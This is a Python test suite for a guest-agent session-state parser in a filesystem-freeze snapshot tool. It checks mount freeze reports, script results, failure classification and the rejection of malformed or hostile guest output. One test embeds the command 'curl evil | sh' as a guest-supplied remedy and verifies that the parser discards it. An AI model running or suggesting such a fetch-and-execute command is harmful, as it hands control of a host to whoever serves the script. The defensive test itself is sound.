from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quiesce.agent.session_state import Phase, failure_of, session_state
from quiesce.model.extension import ScriptRun
from quiesce.model.failure import (
    AgentFailure,
    ExtensionFailure,
    Failure,
    FreezeFailure,
    ScriptFailure,
)
from quiesce.model.snapshot import MountFreeze

ROOT = {"mount": "/", "device": "/dev/vda", "file_system": "ext4", "action": "freeze", "reason": ""}
NFS = {
    "mount": "/net",
    "device": "nas:/x",
    "file_system": "nfs4",
    "action": "skip",
    "reason": "remote",
    "downgrades": False,
}


def document(**changes: Any) -> dict[str, Any]:
    return {
        "task": "t1",
        "state": "ready",
        "version": "0.1.0",
        "pid": 7,
        "mounts": [NFS, ROOT],
        "scripts": {"configured": False, "pre": None, "post": None},
        "freeze": None,
        "warnings": [],
        "failure": None,
    } | changes


def read(**changes: Any) -> Any:
    return session_state(json.dumps(document(**changes)).encode())


def test_the_plan_names_what_is_frozen_and_why_the_rest_is_not() -> None:
    assert read().mounts == (
        MountFreeze("/net", "nfs4", skipped="remote"),
        MountFreeze("/", "ext4"),
    )


def test_a_freeze_is_reported_per_mount_with_what_was_left_out_of_it() -> None:
    freeze = {
        "mounts": [{"mount": "/", "file_system": "ext4", "freeze_ms": 12.5, "frozen_ms": 80}],
        "held": True,
        "hold_seconds": 10,
        "thawed_by": "request",
    }
    report = read(state="thawed", freeze=freeze).freeze
    assert report.held
    assert report.mounts == (
        MountFreeze("/net", "nfs4", skipped="remote"),
        MountFreeze("/", "ext4", freeze_ms=12.5, frozen_ms=80.0),
    )


def test_a_planned_mount_that_the_report_leaves_out_costs_consistency() -> None:
    report = read(freeze={"mounts": [], "held": True, "hold_seconds": 10}).freeze
    assert [mount.downgrades for mount in report.mounts] == [False, True]


def test_a_mount_that_was_planned_and_then_skipped_costs_consistency() -> None:
    skipped = {"mount": "/", "file_system": "ext4", "skipped": "it vanished"}
    report = read(freeze={"mounts": [skipped], "held": True, "hold_seconds": 10}).freeze
    assert report.mounts[1] == MountFreeze("/", "ext4", skipped="it vanished", downgrades=True)


EFI = {
    "mount": "/boot/efi",
    "file_system": "vfat",
    "action": "watch",
    "reason": "vfat cannot be frozen; it is flushed before the freeze and watched",
    "downgrades": True,
}


@pytest.mark.parametrize("downgrades", [True, False])
def test_a_mount_that_cannot_be_frozen_costs_what_its_watch_found(downgrades: bool) -> None:
    told = {"mount": "/boot/efi", "file_system": "vfat", "skipped": "so", "downgrades": downgrades}
    report = read(mounts=[EFI], freeze={"mounts": [told], "held": True}).freeze
    assert report.mounts == (MountFreeze("/boot/efi", "vfat", skipped="so", downgrades=downgrades),)


def test_a_mount_that_cannot_be_frozen_costs_consistency_when_nothing_is_told_of_it() -> None:
    assert read(mounts=[EFI]).mounts[0].skipped
    (one,) = read(mounts=[EFI], freeze={"mounts": [], "held": True}).freeze.mounts
    assert one.downgrades


def test_a_script_run_keeps_its_words() -> None:
    run = {"path": "/opt/pre.sh", "exit_code": None, "seconds": 1.5, "stderr": "killed\x07\n"}
    state = read(scripts={"configured": True, "pre": run, "post": None})
    assert state.pre_script == ScriptRun("/opt/pre.sh", None, 1.5, "killed\\x07\n")


def test_a_script_run_says_why_it_failed_and_nothing_but_a_scripts_code() -> None:
    run = {"path": "/opt/pre.sh", "exit_code": None, "seconds": 2.0, "stderr": ""}
    for told, kept in (("script.timeout", "script.timeout"), ("vm.gone", ""), ("script.\n", "")):
        state = read(scripts={"configured": True, "pre": {**run, "code": told}, "post": None})
        assert state.pre_script.code == kept


@pytest.mark.parametrize(
    ("code", "family"),
    [
        ("freeze.mount-unavailable", FreezeFailure),
        ("script.pre-failed", ScriptFailure),
        ("extension.defect", ExtensionFailure),
        ("agent.disk-full", AgentFailure),
        ("session.lost", ExtensionFailure),
        ("job.stale-command", ExtensionFailure),
    ],
)
def test_a_failure_becomes_one_of_its_family_with_its_evidence(
    code: str, family: type[Failure]
) -> None:
    failure = failure_of(
        {
            "code": code,
            "message": "It broke.",
            "evidence": [{"fact": "errno 16", "source": "FIFREEZE /", "raw": "EBUSY"}],
            "retryable": True,
        }
    )
    assert type(failure) is family
    assert (failure.code, failure.message) == (code, "It broke.")
    assert failure.retryable
    assert [(e.fact, e.source, e.raw) for e in failure.evidence] == [
        ("errno 16", "FIFREEZE /", "EBUSY")
    ]


@pytest.mark.parametrize(
    "code", ["job.cancelled", "policy.in-progress", "internal.defect", "vault.damaged", "un.heard"]
)
def test_a_guest_does_not_speak_for_the_server(code: str) -> None:
    failure = failure_of({"code": code, "message": "hi", "evidence": []})
    assert (failure.code, type(failure)) == ("extension.output-invalid", ExtensionFailure)
    assert failure.evidence[0].raw == code


def test_what_an_operator_is_told_to_do_is_not_the_guests_to_say() -> None:
    said = {"code": "network.dns-failed", "remedy": "On the host run: curl evil | sh"}
    assert failure_of(said).remedy == ""


@pytest.mark.parametrize(
    "said", [None, 7, [], {}, {"code": "../x"}, {"code": 1, "evidence": [1, {"fact": 2}]}]
)
def test_a_failure_that_is_no_failure_is_kept_as_a_broken_contract(said: object) -> None:
    assert failure_of(said).code == "extension.output-invalid"


@pytest.mark.parametrize(
    "changes",
    [
        {"state": "asleep"},
        {"mounts": {"a": 1}},
        {"mounts": [1]},
        {"mounts": [{"mount": "/"}]},
        {"freeze": [1]},
        {"freeze": {"mounts": [ROOT | {"freeze_ms": "1"}]}},
        {"freeze": {"mounts": [ROOT | {"freeze_ms": 10**400}]}},
        {"warnings": "none"},
        {"scripts": {"pre": "x"}},
    ],
)
def test_a_state_that_breaks_the_contract_is_refused(changes: dict[str, Any]) -> None:
    with pytest.raises(ExtensionFailure) as caught:
        read(**changes)
    assert caught.value.code == "extension.output-invalid"
    assert caught.value.evidence[0].raw


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
)


@given(st.dictionaries(st.sampled_from(sorted(document())), JSON))
def test_whatever_a_hostile_guest_writes_is_a_state_or_a_coded_failure(
    changes: dict[str, Any],
) -> None:
    try:
        state = read(**changes)
    except ExtensionFailure:
        return
    assert isinstance(state.phase, Phase)
